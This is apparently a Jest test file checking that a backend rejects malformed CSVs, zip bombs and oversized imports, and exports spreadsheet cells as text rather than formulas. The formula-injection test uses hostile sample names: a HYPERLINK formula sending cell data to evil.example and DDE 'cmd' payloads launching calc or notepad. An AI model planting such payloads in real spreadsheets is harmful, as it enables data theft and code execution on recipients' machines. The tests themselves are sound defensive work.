import ExcelJS from 'exceljs';
import { MAX_IMPORT_ROWS } from '@assess/shared';
import { startTestBff, deleteRedisPrefix, type TestBff } from '../helpers/bff';
import { apiClient, type ApiClient } from '../helpers/http';
import { createCampaign, createEnterprises, enterpriseRow, importCsv as csvOf, importHeader as header } from '../helpers/factories';
import { makeXlsx, sheetXml } from '../../bff/src/modules/workbooks/testing/zip';

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** What a spreadsheet would evaluate: a text starting with one of these is a formula or a DDE call. */
const FORMULA_START = /^[=+\-@\t\r]/;

describe('hostile files: imports and exports', () => {
  let bff: TestBff;
  let api: ApiClient;
  let token: string;

  beforeAll(async () => {
    bff = await startTestBff();
    api = apiClient(bff.url);
    await bff.services.staff.upsert({ username: 'files_nat', displayName: '国家局', password: 'Files2026national', role: 'national' });
    token = (await api.post('/api/auth/staff/login', { username: 'files_nat', password: 'Files2026national' })).body.token;
  });
  afterAll(async () => {
    await bff.stop();
    await deleteRedisPrefix(process.env.TEST_REDIS_URL!, bff.config.redis.keyPrefix);
  });

  async function importing(body: Buffer | string, type: string) {
    const campaign = await createCampaign(bff.services);
    const response = await api.raw('POST', `/api/admin/campaigns/${String(campaign._id)}/imports?wait=true`, { raw: body, token, headers: { 'content-type': type } });
    const stored = await bff.services.models.enterprises.countDocuments({ campaignId: campaign._id });
    return { response, stored };
  }

  it('When a CSV is malformed (unclosed quote, a 70 KB line, binary garbage, no header), then 400 FILE_INVALID with a Chinese reason and nothing imported', async () => {
    const good = enterpriseRow();
    const files = [
      `${csvOf([good])}\n"${'x'.repeat(20)},unclosed`,
      `${header.join(',')}\n${'y'.repeat(70 * 1024)}`,
      Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256)),
      'just,some,words\n1,2,3',
    ];
    for (const file of files) {
      const { response, stored } = await importing(file, 'text/csv');
      expect({ status: response.status, code: response.body.code }).toEqual({ status: 400, code: 'FILE_INVALID' });
      expect(response.body.message).toMatch(/[\u4e00-\u9fa5]/);
      expect(stored).toBe(0);
    }
  }, 60_000);

  it('When an XLSX is a zip bomb (honest or lying about its size) or not a zip at all, then it is refused before inflating, nothing imported, and the server answers', async () => {
    const bomb = Buffer.alloc(120 * 1024 * 1024, 0x20); // 120 MB of spaces: ~120 KB deflated
    const files = [makeXlsx(bomb), makeXlsx(bomb, { declaredSize: 2_000 }), Buffer.from('PK\u0003\u0004 not really a zip'), Buffer.from('<html>')];
    for (const file of files) {
      const started = Date.now();
      const { response, stored } = await importing(file, XLSX);
      expect(response.status).toBeGreaterThanOrEqual(400);
      expect(response.status).toBeLessThan(500);
      expect(['FILE_INVALID', 'FILE_TOO_LARGE']).toContain(response.body.code);
      expect(stored).toBe(0);
      expect(Date.now() - started).toBeLessThan(10_000);
    }
    expect((await fetch(`${bff.url}/healthz`)).status).toBe(200);
  }, 60_000);

  it(`When a CSV or an XLSX has 100,000 rows, then 413 TOO_MANY_ROWS saying how many (limit ${MAX_IMPORT_ROWS}), and not one row is imported`, async () => {
    const row = csvOf([enterpriseRow()]).split('\n')[1]!;
    const csv = `${header.join(',')}\n${Array.from({ length: 100_000 }, () => row).join('\n')}`;
    const fromCsv = await importing(csv, 'text/csv');
    expect({ status: fromCsv.response.status, code: fromCsv.response.body.code, rows: fromCsv.response.body.details?.rows }).toEqual({ status: 413, code: 'TOO_MANY_ROWS', rows: 100_000 });
    expect(fromCsv.response.body.message).toContain('100000');
    expect(fromCsv.stored).toBe(0);
    const cells = row.split(',');
    const xlsx = makeXlsx(sheetXml([header, ...Array.from({ length: 100_000 }, () => cells)]));
    const fromXlsx = await importing(xlsx, XLSX);
    expect({ status: fromXlsx.response.status, code: fromXlsx.response.body.code }).toEqual({ status: 413, code: 'TOO_MANY_ROWS' });
    expect(fromXlsx.stored).toBe(0);
  }, 60_000);

  it('When enterprise names start with =, +, -, @ (formula injection), then the bureau export and the key sheet show them as text, never as formulas', async () => {
    const campaign = await createCampaign(bff.services);
    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")有限公司', '+1+cmd|\' /C calc\'!A0有限公司', '-2+3+cmd|\' /C notepad\'!A0公司', '@SUM(1+1)*cmd|\' /C calc\'!A0公司'];
    await createEnterprises(bff.services, campaign._id, names.map((name) => enterpriseRow({ name })));
    const exports = [
      await api.get(`/api/dashboard/enterprises.xlsx?campaignId=${String(campaign._id)}&pageSize=100`, token),
      await api.post(`/api/admin/campaigns/${String(campaign._id)}/key-sheets`, { regionCode: '440000', reissueAll: true }, token),
    ];
    for (const response of exports) {
      expect(response.status).toBe(200);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(response.body as never);
      const found: string[] = [];
      workbook.eachSheet((sheet) =>
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
            const text = String(cell.text);
            if (names.some((name) => text.includes(name))) found.push(text);
            if (typeof cell.value === 'string') expect(cell.value).not.toMatch(FORMULA_START);
          }),
        ),
      );
      expect(found).toHaveLength(names.length);
    }
  }, 60_000);
});
